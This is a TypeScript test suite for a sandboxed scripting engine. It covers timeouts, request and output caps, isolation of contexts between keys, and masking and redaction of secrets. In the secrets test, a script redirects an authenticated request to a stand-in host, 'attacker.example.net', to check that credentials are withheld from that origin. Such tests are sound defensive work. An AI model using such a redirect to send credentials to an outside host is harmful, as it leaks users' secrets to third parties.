import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { ENGINES, createRunner, freshKey, runnerFor } from './engines.js';
import { createScriptRunner } from '../../src/scripting/script-runner.js';
import { resolveLimits } from '../../src/scripting/limits.js';
import { EventDispatcher } from '../../src/scripting/event-dispatcher.js';
import { ScriptCallState } from '../../src/scripting/call-state.js';

describe('engine selection and limits', () => {
  test('the engine is chosen at start-up and logged', async () => {
    const lines: Array<{ obj: Record<string, unknown>; msg?: string }> = [];
    const runner = await createScriptRunner({ logger: { info: (obj, msg) => lines.push({ obj: obj as Record<string, unknown>, msg }) } });
    try {
      assert.equal(lines.length, 1);
      assert.equal(lines[0]!.obj.engine, runner.engine.name);
      assert.match(lines[0]!.msg ?? '', /^scripting engine: /);
      // isolated-vm 5 on Node 20 (with --no-node-snapshot), 7 on Node 24; the wasm fallback otherwise.
      const node = Number(process.versions.node.split('.')[0]);
      if (ENGINES.includes('isolated-vm')) {
        assert.equal(runner.engine.name, 'isolated-vm');
        assert.equal(runner.engine.version.split('.')[0], node >= 24 ? '7' : node >= 22 ? '6' : '5');
      } else {
        assert.equal(runner.engine.name, 'quickjs');
        assert.match(runner.engine.reason, /fallback/);
      }
    } finally {
      await runner.dispose();
    }
  });

  test('limits are clamped: at most 60 s, defaults filled in', () => {
    assert.deepEqual(resolveLimits({}), { timeoutMs: 10_000, maxHttpRequests: 25, maxStorageCalls: 1_000, maxOutputBytes: 8 * 1024 * 1024, maxLogEntries: 100 });
    assert.equal(resolveLimits({ timeoutMs: 120_000 }).timeoutMs, 60_000);
    assert.equal(resolveLimits({ timeoutMs: -5 }).timeoutMs, 1);
    assert.equal(resolveLimits({ maxHttpRequests: Number.NaN }).maxHttpRequests, 25);
  });
});

for (const engine of ENGINES) {
  describe(`runner on ${engine}`, () => {
    test('checkScript reports compile errors with line and column, and runs nothing', async () => {
      const runner = await runnerFor(engine);
      assert.deepEqual(await runner.checkScript('function before_action() {\n  method_request.x = 1;\n  return true;\n}'), []);
      const [problem, ...rest] = await runner.checkScript('function after_action() {\n  return 1 +;\n}');
      assert.equal(rest.length, 0);
      assert.equal(problem!.line, 2);
      assert.equal(problem!.column, 13);
      assert.match(problem!.message, /token/i);
      assert.equal((await runner.checkScript('var x = 1;\nlet x = 2;'))[0]!.line, 2);
      assert.equal((await runner.checkScript('return 5'))[0]!.line, 1);
      // Compiling does not run: an endless loop compiles fine and instantly.
      const started = Date.now();
      assert.deepEqual(await runner.checkScript('while (true) {}'), []);
      assert.ok(Date.now() - started < 1_000);
    });

    test('a time limit ends endless scripts; the next execution is served', async () => {
      const runner = await runnerFor(engine);
      const started = Date.now();
      const r = await runner.runEvent({ event: 'after_action', isolationKey: freshKey(), sources: { method: 'function after_action() { while (true) {} }' }, globals: {}, limits: { timeoutMs: 300 } });
      assert.equal(r.result.kind === 'error' && r.result.error.code, 'SCRIPT_TIMEOUT');
      assert.ok(Date.now() - started < 8_000, `took ${Date.now() - started} ms`);
      const ok = await runner.runEvent({ event: 'after_action', isolationKey: freshKey(), sources: { method: 'function after_action() { method_response = 1; return true }' }, globals: {} });
      assert.equal(ok.globals.method_response, 1);
    });

    test('the time limit covers time spent waiting for the host', async () => {
      const runner = await runnerFor(engine);
      const host = { httpRequest: () => new Promise<never>(() => undefined) };
      const started = Date.now();
      const r = await runner.runEvent({
        event: 'after_action',
        isolationKey: freshKey(),
        sources: { method: "function after_action() { try { http_request({ url: 'https://api.example.com/slow' }) } catch (e) {} while (true) {} }" },
        globals: {},
        host,
        limits: { timeoutMs: 300 },
      });
      assert.equal(r.result.kind === 'error' && r.result.error.code, 'SCRIPT_TIMEOUT');
      assert.ok(Date.now() - started < 8_000, `took ${Date.now() - started} ms`);
    });

    test('http_request calls are capped per execution, even when the script catches the error', async () => {
      const runner = await runnerFor(engine);
      let calls = 0;
      const host = {
        httpRequest: async () => {
          calls++;
          return { status_code: 200, headers: {}, content: 'ok', request: { method: 'GET', url: 'x', headers: {} } };
        },
      };
      const r = await runner.runEvent({
        event: 'after_action',
        isolationKey: freshKey(),
        sources: { method: "function after_action() { for (var i = 0; i < 10; i++) { try { http_request({ url: 'https://api.example.com/' + i }) } catch (e) {} } return true }" },
        globals: {},
        host,
        limits: { maxHttpRequests: 3 },
      });
      assert.equal(r.result.kind === 'error' && r.result.error.code, 'SCRIPT_LIMIT');
      assert.equal(calls, 3);
    });

    test('what a script hands back is capped', async () => {
      const runner = await runnerFor(engine);
      const r = await runner.runEvent({
        event: 'after_action',
        isolationKey: freshKey(),
        sources: { method: "function after_action() { method_response = 'x'.repeat(50000); return true }" },
        globals: {},
        limits: { maxOutputBytes: 10_000 },
      });
      assert.equal(r.result.kind === 'error' && r.result.error.code, 'SCRIPT_OUTPUT_TOO_LARGE');
    });

    test('warm contexts are reused per isolation key and never shared between keys', async () => {
      const runner = await createRunner(engine, { sandboxes: 1 });
      const keyA = freshKey('partner/accA');
      const keyB = freshKey('partner/accB');
      const src = 'function after_action() { method_response = typeof Object.prototype.marker; return true }';
      await runner.runEvent({ event: 'after_action', isolationKey: keyA, sources: { method: src }, globals: {} });
      await runner.runEvent({ event: 'after_action', isolationKey: keyA, sources: { method: src }, globals: {} });
      assert.equal(runner.stats().contexts, 1);
      await runner.runEvent({ event: 'after_action', isolationKey: keyB, sources: { method: src }, globals: {} });
      assert.equal(runner.stats().contexts, 2);
      // A script tampering with built-ins costs its context: nobody sees the change afterwards.
      const tamper = await runner.runEvent({ event: 'after_action', isolationKey: keyA, sources: { method: 'function after_action() { Object.prototype.marker = 1; return true }' }, globals: {} });
      assert.deepEqual(tamper.result, { kind: 'ok' });
      for (const key of [keyA, keyB]) {
        const r = await runner.runEvent({ event: 'after_action', isolationKey: key, sources: { method: src }, globals: {} });
        assert.equal(r.globals.method_response, 'undefined');
      }
      // Found when the context was restored after the answer; the host hears of it with the next one.
      assert.ok(runner.stats().recycledContexts >= 1);
    });

    test('executions run side by side on a pool; least recently used contexts make room', async () => {
      const runner = await createRunner(engine, { sandboxes: 2, contextsPerSandbox: 2 });
      const src = 'function after_action() { var t = Date.now(); while (Date.now() - t < 150) {} method_response = method_response * 2; return true }';
      const results = await Promise.all(
        [1, 2, 3, 4].map((n) => runner.runEvent({ event: 'after_action', isolationKey: freshKey(`acc${n}`), sources: { method: src }, globals: { method_response: n } })),
      );
      assert.deepEqual(results.map((r) => r.globals.method_response), [2, 4, 6, 8]);
      const stats = runner.stats();
      assert.equal(stats.executions, 4);
      assert.equal(stats.sandboxes, 2);
      assert.ok(stats.contexts <= 4);
      for (let i = 0; i < 3; i++) await runner.runEvent({ event: 'after_action', isolationKey: freshKey('lru'), sources: { method: 'function after_action() { return true }' }, globals: {} });
      assert.ok(runner.stats().recycledContexts >= 1);
      assert.ok(runner.stats().contexts <= 4);
    });

    test('secrets: masked for the script, redacted from messages and logs, restored only for the same origin', async () => {
      const runner = await runnerFor(engine);
      const secret = 'tok_9f8e7d6c5b4a';
      const dispatcher = new EventDispatcher(runner, {
        isolationKey: freshKey(),
        host: { secrets: [secret] },
        sources: {
          method: `function before_action() {
            console.log(JSON.stringify(method_request_headers), JSON.stringify(method_request), method_auth_value, btoa(method_auth_value));
            method_request.note = 'sent';
            if (method_request.moveTo) method_endpoint = method_request.moveTo;
            return true;
          }
          function after_action() {
            console.log('auth:' + typeof method_auth_value, JSON.stringify(method_response));
            throw new Error('rejected ' + method_response.echo);
          }`,
        },
      });
      const request = { endpoint: 'https://api.example.com/v1/contacts', headers: { Authorization: `Bearer ${secret}` }, parameters: { api_key: secret }, body: { auth_field: secret } };
      const before = await dispatcher.beforeAction(request, new ScriptCallState(), { authValue: secret });
      assert.deepEqual(before.result, { kind: 'ok' });
      const log = before.logs[0]!.message;
      assert.ok(!log.includes(secret), log);
      assert.ok(!log.includes(Buffer.from(secret).toString('base64')), log);
      assert.match(log, /Bearer \[REDACTED:\d+\]/);
      // Untouched credentials go out intact…
      assert.equal(before.request.headers.Authorization, `Bearer ${secret}`);
      assert.equal(before.request.parameters.api_key, secret);
      assert.deepEqual(before.request.body, { auth_field: secret, note: 'sent' });
      // …but not to another origin.
      const moved = await dispatcher.beforeAction({ ...request, body: { auth_field: secret, moveTo: 'https://attacker.example.net/x' } }, new ScriptCallState(), { authValue: secret });
      assert.equal(moved.credentialsWithheld, true);
      assert.equal(moved.request.endpoint, 'https://attacker.example.net/x');
      assert.ok(!JSON.stringify(moved.request).includes(secret));
      const after = await dispatcher.afterAction(request, { status: 200, headers: {}, body: { echo: secret } }, new ScriptCallState());
      assert.equal(after.result.kind, 'error');
      assert.ok(after.result.kind === 'error' && !after.result.error.message.includes(secret));
      assert.match(after.logs[0]!.message, /^auth:undefined /);
      assert.ok(!after.logs[0]!.message.includes(secret));
    });
  });
}
